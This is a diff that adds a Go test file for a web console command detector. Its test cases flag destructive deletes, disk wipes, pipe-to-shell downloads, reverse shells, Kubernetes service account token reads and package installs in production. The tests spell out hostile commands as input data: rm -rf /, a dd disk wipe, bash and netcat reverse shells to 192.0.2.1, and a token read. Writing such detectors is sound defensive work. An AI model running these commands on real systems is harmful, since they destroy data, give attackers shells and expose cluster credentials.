@@ -0,0 +1,155 @@
+/*
+Copyright 2024 Kubeworkz Authors
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package detection
+
+import (
+	"io/ioutil"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestSplitCommands(t *testing.T) {
+	tests := []struct {
+		line string
+		want [][]string
+	}{
+		{"ls -la", [][]string{{"ls", "-la"}}},
+		{"  ", nil},
+		{"cat a | grep b && echo ok; exit", [][]string{{"cat", "a"}, {"grep", "b"}, {"echo", "ok"}, {"exit"}}},
+		{`echo "a b" 'c d' e\ f`, [][]string{{"echo", "a b", "c d", "e f"}}},
+		{`echo "a \"b\"" '|'`, [][]string{{"echo", `a "b"`, "|"}}},
+		{"echo $(rm -rf /)", [][]string{{"echo", "$"}, {"rm", "-rf", "/"}}},
+		{"echo `id`", [][]string{{"echo"}, {"id"}}},
+		{"FOO=1 BAR=2 make", [][]string{{"make"}}},
+		{"sudo -u root rm -rf /", [][]string{{"rm", "-rf", "/"}}},
+		{"/usr/bin/sudo env -u HOME nohup rm x", [][]string{{"rm", "x"}}},
+		{"timeout -s KILL 10 rm -rf /", [][]string{{"rm", "-rf", "/"}}},
+		{"./configure --prefix=/usr", [][]string{{"./configure", "--prefix=/usr"}}},
+		{"sudo", nil},
+		{"ls\nrm x", [][]string{{"ls"}, {"rm", "x"}}},
+	}
+	for _, tt := range tests {
+		if got := splitCommands(tt.line); !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("splitCommands(%q) = %q, want %q", tt.line, got, tt.want)
+		}
+	}
+}
+
+func TestDetectCommand(t *testing.T) {
+	ctx := CommandContext{User: "alice", Cluster: "pivot", Namespace: "dev", Pod: "web-0", ContainerUser: "root"}
+	prod := ctx
+	prod.Namespace = "shop-prod"
+
+	tests := []struct {
+		name string
+		ctx  CommandContext
+		line string
+		want []string
+	}{
+		{"harmless", ctx, "ls -la /", nil},
+		{"rm -rf /", ctx, "rm -rf /", []string{"webconsole-destructive-delete"}},
+		{"grouped flags apart", ctx, "rm -r -f /etc", []string{"webconsole-destructive-delete"}},
+		{"behind sudo and a list", ctx, "cd /tmp && sudo rm -fr ~", []string{"webconsole-destructive-delete"}},
+		{"rm without force", ctx, "rm -r /etc", nil},
+		{"rm of a file", ctx, "rm -rf ./build", nil},
+		{"flags after --", ctx, "rm -- -rf /", nil},
+		{"quoted", ctx, "echo 'rm -rf /'", nil},
+		{"disk wipe", ctx, "dd if=/dev/zero of=/dev/sda bs=1M", []string{"webconsole-disk-wipe"}},
+		{"mkfs", ctx, "mkfs.ext4 /dev/sdb1", []string{"webconsole-disk-wipe"}},
+		{"pipe to shell", ctx, "curl -s https://example.com/x.sh | sudo bash", []string{"webconsole-pipe-to-shell"}},
+		{"reverse shell", ctx, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", []string{"webconsole-reverse-shell"}},
+		{"netcat exec", ctx, "nc -e /bin/sh 192.0.2.1 4444", []string{"webconsole-reverse-shell"}},
+		{"token", ctx, "cat /var/run/secrets/kubernetes.io/serviceaccount/token", []string{"webconsole-service-account-token"}},
+		{"install out of prod", ctx, "apt-get install -y curl", nil},
+		{"install in prod", prod, "apt-get install -y curl", []string{"webconsole-package-install"}},
+		{"install behind env in prod", prod, "DEBIAN_FRONTEND=noninteractive apt install curl", []string{"webconsole-package-install"}},
+		{"several rules", ctx, "curl http://192.0.2.1/x | sh; rm -rf /", []string{"webconsole-destructive-delete", "webconsole-pipe-to-shell"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			findings := DetectCommand(tt.ctx, tt.line)
+			var got []string
+			for _, f := range findings {
+				got = append(got, f.Detection)
+				if strings.Contains(f.Message, tt.line) {
+					t.Errorf("message %q holds the command line", f.Message)
+				}
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("findings of %q = %v, want %v", tt.line, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoadCommandRules(t *testing.T) {
+	defer LoadCommandRules("")
+	ctx := CommandContext{User: "alice", Namespace: "dev", ContainerUser: "app"}
+
+	tests := []struct {
+		name    string
+		rules   string
+		line    string
+		want    []string
+		wantErr bool
+	}{
+		{"built-in rules", "", "rm -rf /", []string{"webconsole-destructive-delete"}, false},
+		{"disabled", `[{"Name":"webconsole-destructive-delete","Disabled":true}]`, "rm -rf /", nil, false},
+		{"replaced", `[{"Name":"webconsole-destructive-delete","Severity":"low","Commands":["shutdown"]}]`, "shutdown now", []string{"webconsole-destructive-delete"}, false},
+		{"added", `[{"Name":"kubectl","Severity":"medium","Commands":["kubectl"],"Args":["delete"],"ContainerUsers":["app"]}]`, "kubectl delete ns x", []string{"kubectl"}, false},
+		{"out of scope", `[{"Name":"kubectl","Severity":"medium","Commands":["kubectl"],"ContainerUsers":["root"]}]`, "kubectl get ns", nil, false},
+		{"no severity", `[{"Name":"x","Commands":["x"]}]`, "", nil, true},
+		{"nothing to match", `[{"Name":"x","Severity":"low"}]`, "", nil, true},
+		{"bad pattern", `[{"Name":"x","Severity":"low","Pattern":"("}]`, "", nil, true},
+		{"bad glob", `[{"Name":"x","Severity":"low","Commands":["["]}]`, "", nil, true},
+		{"not json", `{`, "", nil, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := LoadCommandRules(""); err != nil {
+				t.Fatal(err)
+			}
+			file := ""
+			if tt.rules != "" {
+				file = filepath.Join(t.TempDir(), "rules.json")
+				if err := ioutil.WriteFile(file, []byte(tt.rules), 0600); err != nil {
+					t.Fatal(err)
+				}
+			}
+			err := LoadCommandRules(file)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("error = %v, want error %v", err, tt.wantErr)
+			}
+			if err != nil {
+				// the rules in use are kept
+				if len(DetectCommand(ctx, "rm -rf /")) != 1 {
+					t.Error("the built-in rules were dropped")
+				}
+				return
+			}
+			var got []string
+			for _, f := range DetectCommand(ctx, tt.line) {
+				got = append(got, f.Detection)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("findings of %q = %v, want %v", tt.line, got, tt.want)
+			}
+		})
+	}
+}